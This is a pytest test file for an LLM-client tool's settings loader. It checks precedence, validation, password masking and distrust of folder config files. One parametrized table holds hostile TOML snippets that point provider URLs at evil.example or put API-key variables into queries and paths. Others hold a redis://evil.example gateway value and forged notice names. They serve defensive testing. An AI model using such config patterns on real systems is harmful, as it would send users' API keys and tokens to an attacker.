"""Settings: precedence, the origin of each value, and errors for wrong values."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

from asides.flows.build_call import CallBuilder
from asides.flows.offline import explain
from asides.options import Options
from asides.providers.find import find_target
from asides.providers.provider import THINKING_FIELDS, Provider, Target
from asides.providers.table import plain_row
from asides.settings import SETTINGS, Settings, Timeouts, load_settings
from asides.values.errors import ConfigError, InvalidThinking, UnknownProvider
from asides.values.thinking import Thinking
from asides.values.visibility import Visibility

NOTHING: dict[str, str] = {}


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working directory."""
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def _written(folder: Path, text: str, name: str = "asides.toml") -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# --- who has the say ----------------------------------------------------------------------------------------------


def test_nothing_said_means_the_defaults(here: Path) -> None:
    settings = load_settings(NOTHING)
    assert settings == Settings()
    assert {settings.origin(name) for name in SETTINGS} == {"default"}


def test_I7_an_argument_wins_over_a_variable_and_that_over_a_file_and_that_over_a_default(here: Path) -> None:
    _written(here, 'model = "file:m"\nretries = 7\nmax_tokens = 300\n[timeouts]\nidle = 3\nconnect = 4')
    environ = {"ASIDES_MODEL": "environment:m", "ASIDES_RETRIES": "6", "ASIDES_TIMEOUTS_IDLE": "2.5"}
    settings = load_settings(environ, model="argument:m")
    assert settings == Settings(
        model="argument:m",
        retries=6,
        max_tokens=300,
        timeouts=Timeouts(idle=2.5, connect=4.0),
        files=("asides.toml",),
        origins=settings.origins,
    )
    assert [settings.origin(name) for name in ("model", "retries", "timeouts.idle", "max_tokens", "keep_raw")] == [
        "argument",
        "environment ASIDES_RETRIES",
        "environment ASIDES_TIMEOUTS_IDLE",
        "file asides.toml",
        "default",
    ]


def test_none_and_blank_are_as_good_as_not_given(here: Path) -> None:
    settings = load_settings({"ASIDES_MODEL": "  "}, model=None, timeouts=None)
    assert settings.origin("model") == "default"


def test_every_setting_has_a_variable(here: Path) -> None:
    environ = {
        "ASIDES_MODEL": "ollama:qwen3",
        "ASIDES_THINKING": "8000",
        "ASIDES_MAX_TOKENS": "100",
        "ASIDES_TIMEOUTS_CONNECT": "1",
        "ASIDES_TIMEOUTS_FIRST_BYTE": "2",
        "ASIDES_TIMEOUTS_IDLE": "3",
        "ASIDES_TIMEOUTS_TOTAL": "4",
        "ASIDES_RETRIES": "0",
        "ASIDES_ON_CONFLICT": "adjust",
        "ASIDES_KEEP_RAW": "no",
        "ASIDES_KEEP_THINKING": "yes",
        "ASIDES_KEEP_CONVERSATIONS": "all",
        "ASIDES_KEEP_INPUT_HISTORY": "off",
        "ASIDES_RENDER_MARKDOWN": "off",
        "ASIDES_SHOW_REASONING_THINKING": "on",
        "ASIDES_REASONING_ALLOWED_MODELS": "deepseek:*, qwen*",
        "ASIDES_THINKING_FIELD": "inner_voice",
        "ASIDES_HEURISTICS": "FALSE",
        "ASIDES_OPENAI_RESPONSES_ENABLED": "yes",
        "ASIDES_TOOLS_MAX_COUNT": "20",
        "ASIDES_TOOLS_MAX_JSON_KB": "64",
        "ASIDES_FALLBACKS": '{"ollama:qwen3": ["groq:qwen3"]}',
        "ASIDES_VISIBILITY_USER": "summary",
        "ASIDES_VISIBILITY_APP": "raw, summary",
        "ASIDES_VISIBILITY_LOG": "summary",
        "ASIDES_VISIBILITY_TRACE": "raw",
        "ASIDES_VISIBILITY_HISTORY": "none",
        "ASIDES_VISIBILITY_GATEWAY": "raw,sealed",
        "ASIDES_GATEWAY_HOST": "::1",
        "ASIDES_GATEWAY_PORT": "8080",
        "ASIDES_GATEWAY_WORKERS": "2",
        "ASIDES_GATEWAY_KEY_FILE": "keys.txt",
        "ASIDES_GATEWAY_KEY_ENV": "MY_KEYS",
        "ASIDES_GATEWAY_FOLDER": "/kept",
        "ASIDES_GATEWAY_STATE": "memory",
        "ASIDES_GATEWAY_PAGE": "no",
        "ASIDES_GATEWAY_THINKING_FIELD": "reasoning",
        "ASIDES_GATEWAY_ALLOWED_HOSTS": "a.example, b.example",
        "ASIDES_GATEWAY_ALLOWED_ORIGINS": "https://a.example",
        "ASIDES_GATEWAY_SHOWN_MODELS": "groq:*",
        "ASIDES_GATEWAY_OPEN_METRICS": "on",
        "ASIDES_GATEWAY_TELEMETRY": "off",
        "ASIDES_GATEWAY_TELEMETRY_CONTENT": "on",
        "ASIDES_GATEWAY_TRACE_HOSTS": "*.internal",
        "ASIDES_GATEWAY_MAX_BODY_MB": "1.5",
        "ASIDES_GATEWAY_MAX_REQUESTS": "10",
        "ASIDES_GATEWAY_PING_SECONDS": "5",
        "ASIDES_GATEWAY_DRAIN_SECONDS": "0",
        "ASIDES_GATEWAY_LOG": "off",
        "ASIDES_GATEWAY_REDIS": "redis://127.0.0.1",
        "ASIDES_GATEWAY_KEY_GRACE_SECONDS": "60",
        "ASIDES_GATEWAY_SUMMARY_DAYS": "7",
        "ASIDES_STORE": "postgresql://127.0.0.1/asides",
    }
    assert {f"ASIDES_{name.replace('.', '_').upper()}" for name in SETTINGS} == set(environ)
    settings = load_settings(environ)
    assert {name: value for name, value, _ in settings.entries()} == {
        "model": "ollama:qwen3",
        "thinking": Thinking(budget=8000),
        "max_tokens": 100,
        "timeouts.connect": 1.0,
        "timeouts.first_byte": 2.0,
        "timeouts.idle": 3.0,
        "timeouts.total": 4.0,
        "retries": 0,
        "on_conflict": "adjust",
        "keep_raw": False,
        "keep_thinking": True,
        "keep_conversations": "all",
        "keep_input_history": False,
        "render_markdown": False,
        "show_reasoning_thinking": True,
        "reasoning_allowed_models": ("deepseek:*", "qwen*"),
        "thinking_field": "inner_voice",
        "heuristics": False,
        "openai_responses_enabled": True,
        "tools_max_count": 20,
        "tools_max_json_kb": 64,
        "fallbacks": {"ollama:qwen3": ("groq:qwen3",)},
        "visibility.user": ("summary",),
        "visibility.app": ("raw", "summary"),
        "visibility.log": ("summary",),
        "visibility.trace": ("raw",),
        "visibility.history": (),
        "visibility.gateway": ("raw", "sealed"),
        "gateway.host": "::1",
        "gateway.port": 8080,
        "gateway.workers": 2,
        "gateway.key_file": "keys.txt",
        "gateway.key_env": "MY_KEYS",
        "gateway.folder": "/kept",
        "gateway.state": "memory",
        "gateway.page": False,
        "gateway.thinking_field": "reasoning",
        "gateway.allowed_hosts": ("a.example", "b.example"),
        "gateway.allowed_origins": ("https://a.example",),
        "gateway.shown_models": ("groq:*",),
        "gateway.open_metrics": True,
        "gateway.telemetry": False,
        "gateway.telemetry_content": True,
        "gateway.trace_hosts": ("*.internal",),
        "gateway.max_body_mb": 1.5,
        "gateway.max_requests": 10,
        "gateway.ping_seconds": 5.0,
        "gateway.drain_seconds": 0.0,
        "gateway.log": "off",
        "gateway.redis": "redis://127.0.0.1",
        "gateway.key_grace_seconds": 60.0,
        "gateway.summary_days": 7,
        "store": "postgresql://127.0.0.1/asides",
    }
    assert {origin.split()[0] for _, _, origin in settings.entries()} == {"environment"}


def test_fallbacks_are_a_table_of_lists(here: Path) -> None:
    _written(here, '[fallbacks]\n"openai:a" = ["groq:b", "ollama:c"]\n')
    assert load_settings(NOTHING, files=["asides.toml"]).fallbacks == {"openai:a": ("groq:b", "ollama:c")}
    with pytest.raises(ConfigError, match="ASIDES_FALLBACKS: this is not JSON"):
        load_settings({"ASIDES_FALLBACKS": "openai:a"})
    with pytest.raises(ConfigError, match="fallbacks is not valid"):
        load_settings({"ASIDES_FALLBACKS": '{"openai:a": "groq:b"}'})


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ('thinking = "high"', Thinking(effort="high")),
        ("thinking = 8000", Thinking(budget=8000)),
        ("thinking = false", Thinking(mode="off")),
        ('[thinking]\neffort = "low"\nshow = "raw"', Thinking(effort="low", show="raw")),
        ('[thinking]\ntype = "enabled"\nbudget_tokens = 2048', Thinking(budget=2048)),
    ],
)
def test_thinking_is_read_in_every_spelling(here: Path, written: str, meant: Thinking) -> None:
    _written(here, written)
    assert load_settings(NOTHING).thinking == meant


def test_what_was_mapped_while_reading_is_told(here: Path) -> None:
    _written(here, '[thinking]\nsummary = "brief"')
    assert [notice.code for notice in load_settings(NOTHING).notices] == ["summary_mapped"]


def test_hyphens_are_as_good_as_underscores_in_a_file(here: Path) -> None:
    _written(here, 'on-conflict = "adjust"\n[timeouts]\nfirst-byte = 9')
    settings = load_settings(NOTHING)
    assert (settings.on_conflict, settings.timeouts.first_byte) == ("adjust", 9.0)


def test_settings_are_frozen(here: Path) -> None:
    with pytest.raises(AttributeError):
        load_settings(NOTHING).retries = 9  # type: ignore[misc]


def test_the_environment_is_read_when_asked(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASIDES_RETRIES", "5")
    assert load_settings().retries == 5


def test_importing_reads_no_file_and_no_environment(tmp_path: Path) -> None:
    _written(tmp_path, "this is not TOML")
    script = """
import os, sys

class Watched(dict):
    def __getitem__(self, name): raise SystemExit(f"read {name}")
    get = __contains__ = __getitem__

os.environ = Watched()
opened = []
sys.addaudithook(lambda event, args: event == "open" and str(args[0]).endswith(".toml") and opened.append(args[0]))
import asides.settings, asides.providers.find, asides.providers.credentials
assert opened == [], opened
"""
    home = str(Path(sys.modules["asides"].__file__ or "").parents[1])
    run = subprocess.run(
        [sys.executable, "-c", script],
        cwd=tmp_path,
        env={"PYTHONPATH": home, "ASIDES_RETRIES": "x"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (run.returncode, run.stderr) == (0, "")


# --- files --------------------------------------------------------------------------------------------------------


def test_the_file_here_wins_over_the_users_value_by_value(here: Path, tmp_path: Path) -> None:
    _written(here, "retries = 1")
    theirs = _written(tmp_path, "retries = 2\nmax_tokens = 5", ".config/asides/asides.toml")
    settings = load_settings({"HOME": str(tmp_path)})
    assert (settings.retries, settings.max_tokens) == (1, 5)
    assert settings.files == ("asides.toml", str(theirs))
    assert settings.origin("max_tokens") == f"file {theirs}"


def test_a_named_file_is_the_only_one(here: Path, tmp_path: Path) -> None:
    _written(here, "retries = 1")
    named = _written(tmp_path, "max_tokens = 5", "named.toml")
    for settings in (load_settings({"ASIDES_CONFIG": str(named)}), load_settings(NOTHING, files=[named])):
        assert (settings.retries, settings.max_tokens) == (2, 5)
    assert load_settings(NOTHING, files=()).files == ()


def test_a_file_that_was_named_has_to_be_there(here: Path) -> None:
    with pytest.raises(ConfigError, match=r"gone\.toml does not exist"):
        load_settings({"ASIDES_CONFIG": "gone.toml"})
    with pytest.raises(ConfigError, match=r"gone\.toml does not exist"):
        load_settings(NOTHING, files=["gone.toml"])


def test_a_file_that_does_not_read_is_named(here: Path) -> None:
    _written(here, "retries = = 1")
    with pytest.raises(ConfigError, match=r"asides\.toml is not TOML: .*line 1"):
        load_settings(NOTHING)
    (here / "asides.toml").write_bytes(b"model = '\xff'")
    with pytest.raises(ConfigError, match=r"asides\.toml cannot be read"):
        load_settings(NOTHING)
    (here / "asides.toml").unlink()
    (here / "asides.toml").mkdir()
    with pytest.raises(ConfigError, match=r"asides\.toml cannot be read"):
        load_settings(NOTHING)


# --- wrong values -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ('retries = "many"', r"file asides\.toml: retries is not valid"),
        ("retries = -1", r"file asides\.toml: retries is not valid"),
        ('on_conflict = "panic"', r"on_conflict is not valid.* Use raise or adjust\."),
        ('visibility.user = ["all"]', r"visibility\.user is not valid.* Use a list of raw, summary\."),
        ("max_tokens = 0", r"file asides\.toml: max_tokens"),
        ('on_conflict = "ignore"', r"file asides\.toml: on_conflict"),
        ("keep_raw = 1", r"file asides\.toml: keep_raw"),
        ("[timeouts]\nidle = 0", r"file asides\.toml: timeouts\.idle"),
        ("timeouts = 5", r"asides\.toml: unknown setting 'timeouts'"),
        ("retires = 3", r"'retires'; did you mean retries"),
        ("[timeouts]\nidel = 3", r"'timeouts\.idel'; did you mean timeouts\.idle"),
        ("zebra = 3", r"'zebra'; the settings are model, thinking"),
        ("providers = 5", r"asides\.toml: providers is a table of tables"),
    ],
)
def test_a_wrong_value_in_a_file_is_named_with_its_place(here: Path, written: str, said: str) -> None:
    _written(here, written)
    with pytest.raises(ConfigError, match=said):
        load_settings(NOTHING, files=["asides.toml"])


def test_a_wrong_value_is_told_also_where_a_stronger_one_hides_it(here: Path) -> None:
    _written(here, 'retries = "many"')
    with pytest.raises(ConfigError, match="retries"):
        load_settings(NOTHING, retries=1)


def test_a_wrong_variable_and_a_wrong_argument_are_named(here: Path) -> None:
    with pytest.raises(ConfigError, match="environment ASIDES_RETRIES: retries is not valid"):
        load_settings({"ASIDES_RETRIES": "x"})
    with pytest.raises(ConfigError, match="environment ASIDES_KEEP_RAW: keep_raw is not valid"):
        load_settings({"ASIDES_KEEP_RAW": "perhaps"})
    with pytest.raises(InvalidThinking, match=r"environment ASIDES_THINKING: thinking='hard' is not known"):
        load_settings({"ASIDES_THINKING": "hard"})
    with pytest.raises(ConfigError, match="argument: retries is not valid"):
        load_settings(NOTHING, retries="3")
    with pytest.raises(ConfigError, match="unknown argument 'retires'"):
        load_settings(NOTHING, retires=3)
    with pytest.raises(ConfigError, match="'retires'"):
        Settings().origin("retires")


# --- showing and reading ------------------------------------------------------------------------------------------


def test_FT_24_S4_REQ_003_thinking_is_shown_only_where_it_was_switched_on_and_allowed() -> None:
    assert not Settings().show_reasoning_thinking
    assert not Settings().shows_thinking("deepseek:deepseek-v4-pro")
    assert Settings(show_reasoning_thinking=True).shows_thinking("deepseek:deepseek-v4-pro")
    some = Settings(show_reasoning_thinking=True, reasoning_allowed_models=("DeepSeek:*", "qwen3*"))
    shown = {name: some.shows_thinking(name) for name in ("deepseek:a", "ollama:Qwen3:8b", "openai:gpt-5", "qwen3")}
    assert shown == {"deepseek:a": True, "ollama:Qwen3:8b": True, "openai:gpt-5": False, "qwen3": True}
    assert not Settings(show_reasoning_thinking=True, reasoning_allowed_models=()).shows_thinking("deepseek:a")


def test_B5_FT_10_a_field_of_ones_own_is_the_only_one_and_a_blank_one_is_none(here: Path) -> None:
    def target(**settings: Any) -> Target:
        calls = CallBuilder(settings=load_settings(NOTHING, **settings))
        return calls.build("vllm:m", "?", Options(), stream=False).target

    plain = find_target("vllm:m", environ=NOTHING)
    facts = target(thinking_field="  inner ").facts
    assert (facts.thinking_in, facts.heuristics) == (("inner",), False)
    assert target(thinking_field=" ") == plain
    assert target() == plain
    off = target(heuristics=False).facts
    assert (off.thinking_in, off.heuristics) == (THINKING_FIELDS, False)


# --- rows of the user's own ---------------------------------------------------------------------------------------


def _row(here: Path, text: str, name: str) -> Provider:
    _written(here, text)
    return next(row for row in load_settings({"ASIDES_CONFIG": "asides.toml"}).providers if row.name == name)


def test_FT_45_a_row_in_a_file_resolves(here: Path) -> None:
    _written(
        here,
        """
        [providers.my-host]
        base-url = "https://mine.example/v1"
        key_env = "MINE_KEY"
        aliases = ["mh"]
        headers = { X-Team = "blue" }
        query = { api-version = "$MINE_VERSION" }

        [providers.my-host.quirks]
        ask-by = "enable_thinking"
        tags = ["think", ["<inner>", "</inner>"]]
        thinking_in = "inner_voice"
        fields = { split-thinking = true }

        [[providers.my-host.models]]
        models = "clever*"
        thinking = "always"
        efforts = ["low", "high"]
        starts_inside = "auto"

        [[providers.my-host.replay]]
        when = "all"
        """,
    )
    rows = load_settings(NOTHING, files=["asides.toml"]).providers
    target = find_target("MH:clever-1", rows=rows, environ={"MINE_VERSION": "7"})
    assert target.base_url == "https://mine.example/v1"
    assert target.provider.query == (("api-version", "7"),)
    assert target.provider.headers == (("X-Team", "blue"),)
    assert target.provider.key_env == ("MINE_KEY",)
    assert target.provider.tier == "yours"
    assert target.quirks.ask_by == "enable_thinking"
    assert target.quirks.tags == ("think", ("<inner>", "</inner>"))
    assert target.facts.thinking_in == ("inner_voice",)
    assert target.quirks.fields == (("split-thinking", True),)
    assert (target.rule.thinking, target.rule.efforts, target.facts.starts_inside) == (
        "always",
        ("low", "high"),
        "auto",
    )
    assert target.provider.replay_rule("clever-1").when == "all"


def test_a_table_under_a_known_name_changes_what_it_names_and_keeps_the_rest(here: Path) -> None:
    row = _row(
        here,
        """
        [providers.deepseek]
        base_url = "https://proxy.example"
        quirks = { stream_usage = false }
        models = [{ models = "deepseek-v9*", thinking = "never" }]
        """,
        "deepseek",
    )
    ours = find_target("deepseek:x", environ=NOTHING).provider
    assert row.base_url == "https://proxy.example"
    # The address is not the provider's own, so replies are read as from an unknown server.
    assert row.quirks == msgspec.structs.replace(ours.quirks, stream_usage=False, tags=None)
    assert row.models[1:] == ours.models
    assert row.rule("deepseek-v9-pro").thinking == "never"
    assert (row.key_env, row.aliases) == (ours.key_env, ours.aliases)
    assert row.replay == plain_row("openai_chat").replay


EVIL = "https://evil.example/v1"
KEYS = {
    "OPENAI_API_KEY": "sk-canary-openai-0123456789",
    "GITHUB_TOKEN": "ghp-canary-0123456789",
    "HF_TOKEN": "canary-hf-token",
    "OTHER_SECRET": "canary-other-secret",
    "EVIL_URL": EVIL,
}
# Tables of a hostile file, and the call that would fall for each.
HOSTILE = {
    "a key in the query": ('[providers.openai]\nquery = { a = "$OPENAI_API_KEY" }', "openai:gpt-4o"),
    "another variable in the query": ('[providers.openai]\nquery = { a = "$OTHER_SECRET" }', "openai:gpt-4o"),
    "a key in the path": (f'[providers.openai]\nbase_url = "{EVIL}/$OPENAI_API_KEY"', "openai:gpt-4o"),
    "another address": (f'[providers.openai]\nbase_url = "{EVIL}"', "openai:gpt-4o"),
    "another address, key optional": (f'[providers.openai]\nbase_url = "{EVIL}"\nkey = "optional"', "openai:gpt-4o"),
    "an alias": (
        f'[providers.x]\nbase_url = "{EVIL}"\nkey_env = "OPENAI_API_KEY"\naliases = ["openai"]',
        "openai:gpt-4o",
    ),
    "a name that reads the same": (f'[providers."Open_AI"]\nbase_url = "{EVIL}"', "openai:gpt-4o"),
    "an address from a variable": ('[providers.openai]\nbase_url_env = "EVIL_URL"', "openai:gpt-4o"),
    "an optional key": (f'[providers.vllm]\nbase_url = "{EVIL}"\nkey_env = "HF_TOKEN"', "vllm:m"),
    "a server of one's own": (f'[providers.ollama]\nbase_url = "{EVIL}"', "ollama:m"),
    "like another": (f'[providers.groq]\nlike = "vllm"\nbase_url = "{EVIL}"\nkey_env = "GITHUB_TOKEN"', "groq:m"),
    "a host that begins as loopback does": (
        '[providers.openai]\nbase_url = "http://127.evil.example/v1"',
        "openai:gpt-4o",
    ),
    "a path that ends the host": ('[providers.ollama]\nquirks = { path = "@evil.example/" }', "ollama:m"),
    "a header": (f'[providers.openai]\nbase_url = "{EVIL}"\nheaders = {{ Host = "x" }}', "openai:gpt-4o"),
    "a second dialect": (
        f'[providers.openai]\nbase_url = "{EVIL}"\nalso = [{{ dialect = "openai_chat" }}]',
        "openai:gpt-4o",
    ),
    "the signature of AWS": (f'[providers.bedrock]\nbase_url = "{EVIL}"\nsigning = "aws"', "bedrock:m"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_file_that_came_with_the_folder_sends_nothing_elsewhere(
    here: Path, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    text, model = HOSTILE[case]
    for name, value in {**KEYS, "AWS_REGION": "eu-west-1"}.items():
        monkeypatch.setenv(name, value)
    clean = explain(model, "?", api_key="sk-explicit-canary")
    _written(here, text)
    found = explain(model, "?", api_key="sk-explicit-canary")
    assert (found.url, found.headers, found.target) == (clean.url, clean.headers, clean.target)
    (notice,) = [notice for notice in found.notices if notice.code == "untrusted_settings"]
    assert "asides config trust" in notice.detail
    assert "ASIDES_CONFIG=asides.toml" in notice.detail
    settings = load_settings()
    assert settings.providers == ()
    assert [entry.name.partition(".")[0] for entry in settings.ignored] == ["providers"]
    assert load_settings({"ASIDES_CONFIG": "asides.toml"}).providers, "named, it is trusted"
    assert load_settings(NOTHING, files=["asides.toml"]).providers
    assert load_settings(NOTHING, trusts=lambda path, content: content == (here / path).read_bytes()).providers


_GATEWAY = {
    "host": '"0.0.0.0"',
    "port": "1",
    "workers": "9",
    "key_file": '"keys.txt"',
    "key_env": '"PATH"',
    "folder": '"/tmp"',
    "state": '"off"',
    "page": "false",
    "thinking_field": '"reasoning"',
    "allowed_hosts": '["evil.example"]',
    "allowed_origins": '["*"]',
    "shown_models": '["evil:*"]',
    "open_metrics": "true",
    "max_body_mb": "9999",
    "max_requests": "1",
    "ping_seconds": "1",
    "drain_seconds": "1",
    "telemetry": "false",
    "telemetry_content": "true",
    "trace_hosts": '["*"]',
    "log": '"off"',
    "redis": '"redis://evil.example"',
    "key_grace_seconds": "1",
    "summary_days": "0",
}


def test_a_file_that_came_with_the_folder_sets_what_is_harmless_and_only_that(here: Path) -> None:
    lines = {
        "model": '"ollama:qwen3"',
        "thinking": '"high"',
        "max_tokens": "5",
        "retries": "7",
        "on_conflict": '"adjust"',
        "keep_raw": "false",
        "keep_thinking": "true",
        "keep_conversations": '"all"',
        "keep_input_history": "true",
        "render_markdown": "false",
        "show_reasoning_thinking": "true",
        "reasoning_allowed_models": '["qwen*"]',
        "thinking_field": '"inner"',
        "heuristics": "false",
        "openai_responses_enabled": "true",
        "tools_max_count": "3",
        "tools_max_json_kb": "3",
        "timeouts": "{ connect = 1, first_byte = 2, idle = 3, total = 4 }",
        "fallbacks": '{ "ollama:qwen3" = ["groq:qwen3"] }',
        "store": '"postgresql://evil.example/asides"',
        "visibility": '{user = ["raw"], app = [], log = ["raw"], trace = [], history = ["sealed"], gateway = ["raw"]}',
        # Where it listens, who may ask, what it keeps and where: nothing of that is a folder's to say.
        "gateway": "{ " + ", ".join(f"{name} = {value}" for name, value in _GATEWAY.items()) + " }",
    }
    assert {name.partition(".")[0] for name in SETTINGS} == lines.keys(), "a new setting: is it harmless?"
    assert {name for name in SETTINGS if name.startswith("gateway.")} == {f"gateway.{name}" for name in _GATEWAY}
    _written(here, "\n".join(f"{name} = {value}" for name, value in lines.items()))
    settings = load_settings(NOTHING)
    refused = ["keep_thinking", "keep_conversations", "keep_input_history", "fallbacks", "store"]
    refused += [f"gateway.{name}" for name in _GATEWAY]
    assert sorted(entry.name for entry in settings.ignored) == sorted(refused)
    assert (settings.keep_thinking, settings.keep_conversations, settings.fallbacks) == (False, "last", {})
    assert settings.visibility == Visibility(user=("raw",), app=(), history=("sealed",), gateway=())  # only less
    counted = {name for name in SETTINGS if settings.origin(name) != "default"}
    assert counted == set(SETTINGS) - set(refused)


@pytest.mark.parametrize(
    "model", ["local:model.gguf", "LOCAL:./model.gguf", "local/evil.gguf", "google:../../other", "local:/tmp/../x"]
)
def test_a_file_that_came_with_the_folder_chooses_a_model_but_no_program_and_no_path(here: Path, model: str) -> None:
    _written(here, f'model = "{model}"')
    settings = load_settings(NOTHING)
    assert settings.model is None
    assert [entry.name for entry in settings.ignored] == ["model"]
    _written(here, 'model = "local:tiny"')
    assert load_settings(NOTHING).model == "local:tiny"


def test_names_in_a_notice_forge_no_line_and_are_few(here: Path) -> None:
    tables = [f'[providers."a{number}\\nwarning: all is well\\u202e"]\nbase_url = "{EVIL}"' for number in range(9)]
    _written(here, "\n".join([*tables, f"[providers.{'b' * 500}]"]))
    (notice,) = load_settings(NOTHING).notices
    assert notice.detail.isprintable()
    assert "and 5 more" in notice.detail
    assert len(notice.detail) < 900


def test_an_unknown_provider_says_that_a_file_was_ignored(here: Path) -> None:
    _written(here, f'[providers.my-host]\nbase_url = "{EVIL}"')
    with pytest.raises(UnknownProvider, match="asides config trust"):
        CallBuilder().build("my-host:m", "?", Options(), stream=False)


def test_a_variable_that_is_no_setting_is_told(here: Path) -> None:
    environ = {"ASIDES_RETRIS": "3", "ASIDES_ZZZ": "1", "ASIDES_STATE": "/x", "ASIDES_DEBUG": "1", "asides_model": "x"}
    notices = load_settings(environ).notices
    assert [notice.code for notice in notices] == ["unknown_variable"] * 3
    assert "did you mean ASIDES_RETRIES?" in notices[0].detail
    assert "ASIDES_ZZZ is not a setting" in notices[1].detail
    assert "did you mean ASIDES_MODEL?" in notices[2].detail


def test_a_row_may_be_like_another(here: Path) -> None:
    row = _row(here, '[providers.lab]\nlike = "vllm"\nbase_url = "https://lab.example/v1"', "lab")
    vllm = find_target("vllm:x", environ=NOTHING).provider
    assert (row.quirks, row.models, row.key, row.aliases) == (vllm.quirks, vllm.models, "optional", ())
    assert find_target("lab:x", rows=[row], environ=NOTHING).base_url == "https://lab.example/v1"


def test_rows_in_code_come_before_those_of_the_file(here: Path) -> None:
    _written(here, '[providers.mine]\nbase_url = "https://file.example"')
    mine = Provider(name="mine", base_url="https://code.example")
    settings = load_settings(NOTHING, files=["asides.toml"], providers=[mine])
    assert find_target("mine:x", rows=settings.providers, environ=NOTHING).base_url == "https://code.example"


@pytest.mark.parametrize(
    ("table", "said"),
    [
        ('base_ulr = "x"', r"unknown field `base_ulr`"),
        ("base_url = 5", r"\$\.base_url"),
        ('quirks = { ask_by = "magic" }', r"\$\.quirks\.ask_by"),
        ('models = [{ models = "a*", thinking = "sometimes" }]', r"\$\.models\[0\]\.thinking"),
        ('replay = [{ when = "always" }]', r"\$\.replay\[0\]\.when"),
        ('api_key = "sk-canary-123456"', "asides keys set mine`, or name the variable"),
        ('name = "other"', "the name of its table"),
        ('like = "nobody-at-all"', "like: unknown provider 'nobody-at-all'"),
    ],
)
def test_a_wrong_row_is_named_with_file_table_and_field(here: Path, table: str, said: str) -> None:
    _written(here, f"[providers.mine]\n{table}")
    with pytest.raises(ConfigError, match=said) as problem:
        load_settings(NOTHING, files=["asides.toml"])
    assert str(problem.value).startswith("asides.toml: [providers.mine]")
    assert "canary" not in str(problem.value)


def test_a_row_that_is_no_table_is_named(here: Path) -> None:
    _written(here, "[providers]\nmine = 5")
    with pytest.raises(ConfigError, match=r"asides\.toml: \[providers\.mine\] is a table"):
        load_settings(NOTHING, files=["asides.toml"])


def test_entries_name_every_setting_once() -> None:
    entries: list[tuple[str, Any, str]] = list(Settings().entries())
    assert [name for name, _, _ in entries] == list(SETTINGS)


# --- passwords --------------------------------------------------------------------------------------------------------


def test_passwords_of_servers_are_not_shown(here: Path) -> None:
    environ = {
        "ASIDES_STORE": "postgresql://me:canary@db.example/asides?password=canary&sslmode=require",
        "ASIDES_GATEWAY_REDIS": "rediss://:canary@cache.example",
    }
    settings = load_settings(environ)
    assert settings.store == environ["ASIDES_STORE"]
    assert settings.gateway.redis == environ["ASIDES_GATEWAY_REDIS"]
    shown = {name: value for name, value, _ in settings.entries()}
    assert shown["store"] == "postgresql://me:***@db.example/asides?password=***&sslmode=require"
    assert shown["gateway.redis"] == "rediss://:***@cache.example"
    for text in (repr(settings), repr(settings.gateway), str(settings)):
        assert "canary" not in text
    assert "store='postgresql://me:***@db.example" in repr(settings)
    assert "redis='rediss://:***@cache.example'" in repr(settings)
    assert "store=None" in repr(load_settings(NOTHING))
